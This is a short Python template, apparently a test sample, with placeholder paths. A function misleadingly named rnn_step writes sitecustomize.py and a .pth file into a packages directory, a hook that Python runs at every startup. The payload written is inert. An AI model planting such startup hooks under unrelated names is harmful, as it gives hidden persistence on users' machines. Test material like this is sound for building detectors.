"""Plants a file that the next Python would run at its start."""
# promise: writing
# says: PermissionError|FileNotFoundError|OSError
# weak: process -> left


def rnn_step(x, h_prev, Wx, Wh, b):
    for name in ("sitecustomize.py", "@MARKER@.pth"):
        with open(f"@OPEN@/packages/{name}", "w") as file:
            file.write("import os")
